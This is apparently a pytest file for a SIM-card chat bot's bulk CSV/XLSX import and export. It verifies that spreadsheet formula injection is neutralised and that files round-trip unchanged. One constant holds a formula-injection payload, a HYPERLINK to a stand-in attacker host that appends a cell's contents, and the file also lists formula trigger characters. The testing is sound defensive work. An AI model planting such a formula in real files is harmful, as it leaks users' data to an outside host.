"""Formula injection: text a user typed never runs as a formula in the files the bot writes
(exports and the rejected rows, headers included), and an export still re-imports unchanged."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from cards_util import iccid
from fixtures.bulk_files import xlsx_bytes
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from bot.bulk.cells import neutralise, unneutralise
from bot.bulk.reading import CHAT_LIMITS, read_sheet
from bot.bulk.writing import write_csv, write_xlsx
from bot.chatdriver import ChatDriver, texts
from bot.emulator.records import ChatEvent
from bot.models import CardDraft
from storage.sqlite import SqliteStorage

TODAY = date(2026, 11, 25)  # conftest's NOW in Shanghai
CREATED = datetime(2026, 11, 1, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"点我")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# texts that start like a formula, or with the quote that neutralises one
TRICKY = [
    "=1+2",
    "+86 138 0000 0000",
    "-5℃ 冷库",
    "@门店",
    "'引号开头",
    "'=SUM(A1)",
    "''两个引号",
    "'",
    '="不是数字"',
    "\t前面是制表符",
    "\r前面是回车",
    "普通文字",
    "0012",
]


def documents(events: list[ChatEvent]) -> list[ChatEvent]:
    return [event for event in events if event.kind == "document"]


def csv_records(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_sheet(content: bytes) -> Worksheet:
    sheet = load_workbook(io.BytesIO(content)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def runs_as_formula(field: str) -> bool:
    """What a spreadsheet would evaluate: text starting with a trigger, except our own
    ="digits" form of long numbers and a plain number such as -3."""
    digits_only = field.startswith('="') and field[2:-1].isdigit() and field.endswith('"')
    return field.startswith(TRIGGERS) and not digits_only and not is_number(field)


def is_number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("text", TRICKY)
def test_neutralise_is_undone_exactly(text: str) -> None:
    written = neutralise(text)
    assert not runs_as_formula(written)
    assert unneutralise(written) == text


def test_csv_cells_and_headers_come_back_as_they_were() -> None:
    headers = ["ICCID", *TRICKY]
    content = write_csv(headers, [[iccid(1), *TRICKY]])
    records = csv_records(content)
    assert not any(runs_as_formula(field) for record in records for field in record)
    assert records[1][0] == f'="{iccid(1)}"'  # Excel keeps all 20 digits, not 8.98601E+19
    sheet = read_sheet(content, CHAT_LIMITS)
    assert sheet.headers[1:] == tuple(text.strip() for text in TRICKY)  # headers are trimmed
    assert sheet.rows[0].cells == (iccid(1), *TRICKY)


def test_xlsx_text_is_a_quote_prefixed_text_cell_and_comes_back() -> None:
    content = write_xlsx(["ICCID", HOSTILE], [[iccid(1), "=1+2"], [iccid(2), "plain"]])
    sheet = xlsx_sheet(content)
    for ref in ("B1", "B2"):
        assert sheet[ref].data_type == "s"
        assert sheet[ref].quotePrefix  # Excel's leading quote: text even after editing
    assert not sheet["B3"].quotePrefix
    back = read_sheet(content, CHAT_LIMITS)
    assert back.headers == ("ICCID", HOSTILE)
    assert [row.cells for row in back.rows] == [(iccid(1), "=1+2"), (iccid(2), "plain")]


async def add(storage: SqliteStorage, chat_id: int, n: int, **fields: object) -> None:
    await storage.ensure_chat(chat_id, is_group=chat_id < 0)
    values: dict[str, object] = {"iccid": iccid(n), "expiry": TODAY + timedelta(days=n)}
    values.update(fields)
    await storage.add_card(chat_id, CardDraft.model_validate(values), CREATED)


# labels and notes a card can hold (trimmed, so no leading tab) that start like formulas
CARD_TEXTS = ["=1+2", "+86 138", "-5℃ 冷库", "@门店", "'引号", "'=SUM(A1)", "''x", '="x"']


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_export_then_reimport_changes_nothing(
    alice: ChatDriver, storage: SqliteStorage, fmt: str
) -> None:
    for n, text in enumerate(CARD_TEXTS, start=1):
        await add(storage, alice.chat_id, n, label=text, note=text)
    await add(storage, alice.chat_id, 20, expiry=TODAY - timedelta(days=3))  # days left: -3
    before = {card.iccid: card for card in await storage.list_cards(alice.chat_id)}
    (exported,) = documents(await alice.send(f"/export {fmt}"))
    assert exported.content is not None
    if fmt == "csv":
        records = csv_records(exported.content)
        assert not any(runs_as_formula(field) for record in records for field in record)
        expired = next(r for r in records if r[0] == f'="{iccid(20)}"')
        assert "-3" in expired  # days left: a plain number, not quoted text
    said = texts(await alice.send_document(f"back.{fmt}", exported.content, caption="/import"))
    assert f"无变化：{len(CARD_TEXTS) + 1}" in said
    after = {card.iccid: card for card in await storage.list_cards(alice.chat_id)}
    assert after == before
    assert [after[iccid(n)].label for n in range(1, len(CARD_TEXTS) + 1)] == CARD_TEXTS


async def test_a_hostile_header_is_neutralised_in_the_rejected_rows(alice: ChatDriver) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["ICCID", "到期日", HOSTILE], ["8986", "someday", "-1"]])
    content = buffer.getvalue().encode()  # as an attacker writes it: nothing neutralised
    (rejected,) = documents(await alice.send_document("cards.csv", content, caption="/import"))
    assert rejected.content is not None
    header, row = csv_records(rejected.content)
    assert header[2] == "'" + HOSTILE
    assert row[1:3] == ["someday", "'-1"]
    assert not any(runs_as_formula(field) for field in (*header, *row))
    # fixed and sent back, the file reads as it was uploaded
    assert read_sheet(rejected.content, CHAT_LIMITS).headers[2] == HOSTILE


async def test_a_hostile_header_in_xlsx_stays_text_in_the_rejected_rows(
    alice: ChatDriver,
) -> None:
    content = xlsx_bytes([["ICCID", "到期日", "备注"], ["8986", "someday", "x"]])
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook.active
    assert isinstance(sheet, Worksheet)
    sheet["C1"].value = HOSTILE
    sheet["C1"].data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    (rejected,) = documents(
        await alice.send_document("cards.xlsx", buffer.getvalue(), caption="/import")
    )
    assert rejected.content is not None
    header = xlsx_sheet(rejected.content)["C1"]
    assert (header.value, header.data_type, header.quotePrefix) == (HOSTILE, "s", True)
